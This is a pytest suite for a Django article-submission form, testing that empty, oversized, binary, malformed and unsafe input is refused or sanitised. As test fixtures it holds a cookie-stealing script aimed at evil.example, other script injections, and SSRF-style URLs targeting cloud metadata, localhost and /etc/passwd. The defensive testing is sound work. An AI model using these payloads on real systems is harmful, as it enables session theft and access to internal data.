"""Pasted and uploaded input: refused with a clear message or cleaned, never a 500, never half-stored."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from claims.models import Article, Event
from claims.pipeline.extract import article_extract

pytestmark = pytest.mark.django_db

CLAIM = "The council spent $5 million on 12 bridges in 2024, the mayor said on Monday."


@pytest.fixture
def submit(reviewer_client):
    """Post the new-article form (inside the test's transaction, so nothing is sent to the worker)."""

    def post(**data):
        return reviewer_client.post(reverse("article_new"), data)

    return post


def refused(response, message: str) -> None:
    body = response.content.decode()
    assert response.status_code == 200, response.status_code
    assert message in body, body[-2000:]
    assert 'role="alert"' in body  # shown where the user looks, next to the field
    assert not Article.objects.exists() and not Event.objects.exists()  # nothing stored half-way


@pytest.mark.parametrize("text", ["", "   ", "\n\t \r\n"])
def test_empty_and_whitespace_pastes_are_refused(submit, text):
    refused(submit(text=text), "Paste the article text, give its URL, or upload a file.")


def test_a_paste_over_the_configured_limit_is_refused(submit, settings):
    settings.CLAIMDESK_MAX_ARTICLE_BYTES = 1000
    refused(submit(text=CLAIM * 20), "larger than the 1 kB limit")


def test_a_paste_too_big_to_read_gets_a_clear_page_not_a_500(submit, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 5000
    response = submit(text=CLAIM * 200)
    assert response.status_code == 400
    assert "too large" in response.content.decode()
    assert not Article.objects.exists()


@pytest.mark.parametrize(
    "text, message",
    [
        (CLAIM + "\x00\x00", "NUL bytes"),
        ("".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13)) * 50 + CLAIM, "binary data"),
        ("\ufffd\ufffd\x07\x1b" * 200 + CLAIM, "binary data"),
    ],
)
def test_binary_junk_is_refused(submit, text, message):
    refused(submit(text=text), message)


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("article.txt", b"\xff\xfe\x00\xd8bad bytes \xc3\x28", "not valid UTF-8"),
        ("page.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not valid UTF-8"),
        ("report.pdf", b"%PDF-1.7", "Upload an .html, .htm or .txt file."),
        ("run.exe", b"MZ\x90\x00", "Upload an .html, .htm or .txt file."),
        ("noextension", CLAIM.encode(), "Upload an .html, .htm or .txt file."),
        ("empty.txt", b"", "The submitted file is empty."),
        ("nul.txt", CLAIM.encode() + b"\x00", "NUL bytes"),
    ],
)
def test_bad_uploads_are_refused(submit, name, content, message):
    refused(submit(file=SimpleUploadedFile(name, content)), message)


def test_an_upload_over_the_article_limit_is_refused(submit, settings):
    settings.CLAIMDESK_MAX_ARTICLE_BYTES = 1000
    refused(submit(file=SimpleUploadedFile("big.txt", CLAIM.encode() * 20)), "larger than the 1 kB limit")


def test_an_upload_over_the_hard_ceiling_is_cut_off_while_streaming(submit, settings):
    settings.CLAIMDESK_MAX_UPLOAD_BYTES = 70_000  # the handler sees 64 kB chunks
    refused(submit(file=SimpleUploadedFile("huge.txt", CLAIM.encode() * 3000)), "larger than the")


def test_text_url_and_file_together_are_refused(submit):
    refused(submit(text=CLAIM, url="https://example.org/a"), "Give only one of")


def test_html_with_script_is_cleaned_before_extraction(submit):
    html = (
        f"<html><head><script>document.location='https://evil.example/?c='+document.cookie</script></head>"
        f"<body><article><h1>Bridges</h1><p>{CLAIM}</p><script>alert(1)</script>"
        f'<p onclick="alert(2)">Officials said the bridges carry 40,000 cars a day.</p></article></body></html>'
    )
    assert submit(text=html).status_code == 302
    article = article_extract(Article.objects.get().pk)
    assert article.status == Article.Status.READY
    assert "$5 million" in article.text
    assert "document.cookie" not in article.text and "alert" not in article.text


def test_a_100k_character_single_line_is_handled(submit, reviewer_client):
    line = CLAIM + " " + "and the river kept on flowing past the town " * 2300
    assert len(line) > 100_000 and "\n" not in line
    assert submit(text=line).status_code == 302
    article = article_extract(Article.objects.get().pk)
    assert article.status == Article.Status.READY
    page = reviewer_client.get(article.get_absolute_url())
    assert page.status_code == 200 and "river kept on flowing" in page.content.decode()


def test_right_to_left_and_emoji_text_is_kept_intact(submit, reviewer_client):
    text = (
        "قال رئيس البلدية إن المجلس أنفق 5 ملايين دولار على 12 جسراً في عام 2024.\n\n"
        "ראש העירייה אמר כי המועצה הוציאה 5 מיליון דולר על 12 גשרים ב-2024.\n\n"
        f"{CLAIM} 🌉👩‍👩‍👧 The mayor 🧑🏽‍💼 said 40,000 cars cross the bridges every day."
    )
    assert submit(text=text).status_code == 302
    article = article_extract(Article.objects.get().pk)
    assert article.status == Article.Status.READY
    assert "أنفق 5 ملايين" in article.text and "👩‍👩‍👧" in article.text and "הוציאה" in article.text
    for appearance in article.appearances.all():
        assert article.text[appearance.start : appearance.end] == appearance.text  # offsets survive emoji
    body = reviewer_client.get(article.get_absolute_url()).content.decode()
    assert "أنفق 5 ملايين" in body and "👩‍👩‍👧" in body


@pytest.mark.parametrize(
    "url, message",
    [
        ("http://169.254.169.254/latest/meta-data/", "link-local"),
        ("http://[::1]:8000/admin/", "the local machine"),
        ("http://10.0.0.5/", "private or reserved"),
        ("file:///etc/passwd", "Only http:// and https://"),
        ("https://editor:hunter2@news.example.org/", "user name or password"),
    ],
)
def test_internal_or_unsafe_article_urls_are_refused_at_once(submit, url, message):
    refused(submit(url=url), message)
